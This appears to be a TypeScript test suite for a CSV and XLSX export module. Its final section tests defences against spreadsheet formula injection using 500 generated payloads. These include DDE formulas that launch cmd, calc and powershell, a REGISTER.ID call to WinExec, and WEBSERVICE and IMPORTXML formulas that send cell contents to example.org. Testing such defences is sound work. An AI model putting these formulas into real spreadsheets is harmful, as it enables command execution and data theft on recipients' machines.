import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { OutCell, OutTable, Table } from '#app/shared/table.ts';
import { decimalText } from './cell-format.ts';
import { inertText } from './inert-text.ts';
import { readTable } from './read-table.ts';
import { cleanText, garbledPart } from './text.ts';
import { writeTable } from './write-table.ts';
import { sheetName } from './write-xlsx.ts';

const made = (changes: Partial<OutTable> = {}): OutTable => ({
  title: 'Karriärtjänster',
  columns: ['enhet', 'tjänster'],
  rows: [
    ['Lillåskolan', 3],
    ['Ängskolan', -3.2],
  ],
  notes: [],
  ...changes,
});

const readBack = async (table: OutTable, format: 'csv' | 'xlsx'): Promise<Table> => {
  const outcome = await readTable(await writeTable(table, format), '');
  if (!outcome.ok) throw new Error(outcome.problems[0]?.text);
  return outcome.value;
};

const text = (bytes: Uint8Array): string => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);

/** The parts of a workbook as text, by a reader that is not ours. */
const partsOf = (bytes: Uint8Array): Record<string, string> =>
  Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)]));

describe('a CSV file', () => {
  it('opens in Swedish Excel: byte order mark, semicolons, decimal comma, CRLF', async () => {
    const bytes = await writeTable(made({ notes: ['Källa: Samsyn, 2026-11-23'] }), 'csv');
    expect(text(bytes)).toBe(
      '\ufeffenhet;tjänster\r\nLillåskolan;3\r\nÄngskolan;-3,2\r\n\r\n"Källa: Samsyn, 2026-11-23"\r\n',
    );
  });

  it('keeps delimiters, quotes and line breaks inside their cells', async () => {
    const bytes = await writeTable(made({ rows: [['Ek; "Bo"\nÅs', null]] }), 'csv');
    expect(text(bytes)).toContain('\r\n"Ek; ""Bo""\nÅs";\r\n');
  });

  it.each<[number, string]>([
    [0.1 + 0.2, '0,3'],
    [-0, '0'],
    [1e21, '1000000000000000000000'],
    [1.5e-7, '0,00000015'],
    [198_001_011_234, '198001011234'],
    [-3.2, '-3,2'],
  ])('writes the number %d as %s', async (number, written) => {
    const bytes = await writeTable(made({ columns: ['a', 'b'], rows: [['x', number]] }), 'csv');
    expect(text(bytes).split('\r\n')[1]).toBe(`x;${written}`);
  });
});

describe('a workbook', () => {
  it('has typed numbers, a bold header that stays, and the title as the name of the sheet', async () => {
    const parts = partsOf(await writeTable(made(), 'xlsx'));
    const sheet = parts['xl/worksheets/sheet1.xml'] ?? '';
    expect(sheet).toMatch(/<c r="B2"[^>]*><v>3<\/v><\/c>/);
    expect(sheet).toMatch(/<c r="B3"[^>]*><v>-3.2<\/v><\/c>/);
    expect(sheet).toContain('state="frozen"');
    expect(sheet).toContain('<cols>');
    expect(parts['xl/styles.xml']).toContain('<b/>');
    expect(parts['xl/workbook.xml']).toContain('name="Karriärtjänster"');
  });

  it('is the same bytes when the same table is written again', async () => {
    const [first, second] = [await writeTable(made(), 'xlsx'), await writeTable(made(), 'xlsx')];
    expect(Buffer.compare(first, second)).toBe(0);
  });

  it('keeps a text that looks like the escape of a workbook', async () => {
    const { rows } = await readBack(made({ rows: [['_x003D_1+1', 'a_x000D_b']] }), 'xlsx');
    expect(rows[0]?.cells).toEqual(['_x003D_1+1', 'a_x000D_b']);
  });

  it.each(Object.getOwnPropertyNames(Object.prototype))('can hold the text %s', async word => {
    const { header, rows } = await readBack(made({ columns: ['a', word], rows: [[word, 1]] }), 'xlsx');
    expect([header, rows[0]?.cells]).toEqual([
      ['a', word],
      [word, '1'],
    ]);
  });

  it.each([
    ['Tjänster: 2026/27 [alla]', 'Tjänster 2026 27 alla'],
    ['=HYPERLINK("http://x")', 'HYPERLINK("http x")'],
    ["'citat'", 'citat'],
    ['Uppföljning av karriärtjänster i alla skolenheter', 'Uppföljning av karriärtjänster'],
    ['', 'Tabell'],
    ['???', 'Tabell'],
    ['\u0000\t=+', 'Tabell'],
  ])('called %j gets a sheet called %j', (title, name) => {
    expect(sheetName(title)).toBe(name);
  });

  it('can have any title', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 60 }), async title => {
        const name = sheetName(title);
        expect(name.length).toBeGreaterThan(0);
        expect(name.length).toBeLessThanOrEqual(31);
        expect(name).not.toMatch(/[[\]:*?/\\]|^['=+\-@\s]|'$/);
        await readBack(made({ title }), 'xlsx');
      }),
      { numRuns: 50 },
    );
  });
});

describe.each(['csv', 'xlsx'] as const)('a table written as %s', format => {
  it('refuses a number that is none', async () => {
    await expect(writeTable(made({ rows: [['x', Number.NaN]] }), format)).rejects.toThrow(RangeError);
  });

  it('says the same when it is read back', async () => {
    const readable = fc
      .string({ unit: 'grapheme', maxLength: 30 })
      .map(written => cleanText(inertText(written)))
      .filter(written => garbledPart(written) === null);
    const number = fc.oneof(
      fc.integer(),
      fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e12, max: 1e12 }),
    );
    const cell: fc.Arbitrary<OutCell> = fc.oneof(readable, number, fc.constant(null));
    const tables = fc.integer({ min: 1, max: 5 }).chain(width =>
      fc.record({
        columns: fc.constant(Array.from({ length: width }, (_, index) => `kolumn ${index + 1}`)),
        rows: fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 6 }),
      }),
    );
    const shown = (value: OutCell): string =>
      value === null ? '' : typeof value === 'number' ? decimalText(value) : cleanText(inertText(value));
    await fc.assert(
      fc.asyncProperty(tables, async ({ columns, rows }) => {
        const read = await readBack(made({ columns, rows }), format);
        const expected = rows.map(row => row.map(shown)).filter(row => row.some(value => value !== ''));
        expect(read.header).toEqual(columns);
        expect(read.rows.map(row => row.cells)).toEqual(expected);
      }),
      { numRuns: format === 'csv' ? 500 : 150 },
    );
  });
});

/** 500 beginnings and bodies that spreadsheet programs run, or have run. */
const payloads = ((): readonly string[] => {
  const starts = [
    '=',
    '+',
    '-',
    '@',
    '\t=',
    '\r=',
    '\n=',
    '＝',
    '＋',
    '－',
    '＠',
    ' =',
    '\u00a0=',
    '\u200b=',
    '\ufeff+',
    ' \t@',
    '\u0000=',
    '\u0001-',
    '\u202e=',
    '\ud800=',
    '﹦',
    '﹢',
    '﹣',
    '﹫',
    '\u00ad=',
  ];
  const bodies = [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?x="&A1,"klicka")',
    'WEBSERVICE("http://example.org")',
    'IMPORTXML(CONCAT("http://example.org?",A1),"//a")',
    "SUM(A1:A9)*cmd|'/c powershell'!A0",
    'DDE("cmd";"/C calc";"x")',
    '2-3',
    'A1',
    'EXEC("x")',
    '@SUM(1)',
    '"&CHAR(61)',
    'REGISTER.ID("kernel32","WinExec")',
    'INDIRECT("A1")',
    '\r\n=1+1',
    ';=1',
    'åäö',
    '',
    "'",
    '=1',
  ];
  return starts.flatMap(start => bodies.map(body => start + body));
})();

const running = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠﹦﹢﹣﹫]|^[\t\r\n]/u;

describe('a text that a spreadsheet program would run', () => {
  it('comes in five hundred forms here', () => {
    expect(payloads).toHaveLength(500);
    expect(payloads.filter(payload => running.test(payload.replace('\ud800', '')))).toHaveLength(500);
  });

  const inEveryPlace: OutTable = {
    title: '=1+1',
    columns: payloads.slice(0, 150).map((payload, index) => `${payload}${index}`),
    rows: payloads.map((_, row) =>
      Array.from({ length: 3 }, (_cell, column) => payloads[(row + column) % 500] ?? ''),
    ),
    notes: payloads,
  };

  it('is inert in every cell, header and note of a CSV file, to our reader and to another', async () => {
    const bytes = await writeTable(inEveryPlace, 'csv');
    const records: string[][] = parse(Buffer.from(bytes), {
      bom: true,
      delimiter: ';',
      relax_column_count: true,
    });
    const cells = records.flat().filter(cell => cell !== '');
    expect(cells).toHaveLength(150 + 3 * 500 + 500);
    expect(cells.filter(cell => running.test(cell))).toEqual([]);
    const read = await readBack({ ...inEveryPlace, notes: [] }, 'csv');
    expect(
      [...read.header, ...read.rows.flatMap(row => row.cells)].filter(cell => running.test(cell)),
    ).toEqual([]);
  });

  it('is inert in every cell, header, note and sheet name of a workbook, to our reader and to another', async () => {
    const bytes = await writeTable(inEveryPlace, 'xlsx');
    const parts = partsOf(bytes);
    const strings = [...(parts['xl/sharedStrings.xml'] ?? '').matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map(match =>
      (match[1] ?? '').replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&amp;', '&'),
    );
    expect(strings.length).toBeGreaterThan(500);
    expect(strings.filter(string => running.test(string))).toEqual([]);
    expect(parts['xl/worksheets/sheet1.xml']).not.toMatch(/<f[ >/]/);
    expect(parts['xl/workbook.xml']).toContain('name="1+1"');
    const read = await readBack({ ...inEveryPlace, notes: [] }, 'xlsx');
    expect(
      [...read.header, ...read.rows.flatMap(row => row.cells)].filter(cell => running.test(cell)),
    ).toEqual([]);
  });

  it('keeps everything but the apostrophe in front and what nobody can see', () => {
    for (const payload of payloads) {
      const inert = inertText(payload);
      expect(inert.startsWith("'")).toBe(true);
      expect(payload.replaceAll('\ud800', '').replace(/^[\p{Cc}--[\t\r\n]]/v, '')).toBe(inert.slice(1));
    }
  });

  it('is told from texts that are only texts', () => {
    for (const harmless of ['Åsa', '3-4', 'a=b', "'=1", '(−3)', '100 %', '', ' ', '–', '−3,2', '_x003D_']) {
      expect(inertText(harmless)).toBe(harmless);
    }
  });

  it('is never left active by any text at all', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), written => {
        expect(inertText(written)).not.toMatch(running);
        expect(inertText(inertText(written))).toBe(inertText(written));
      }),
      { numRuns: 2000 },
    );
  });
});
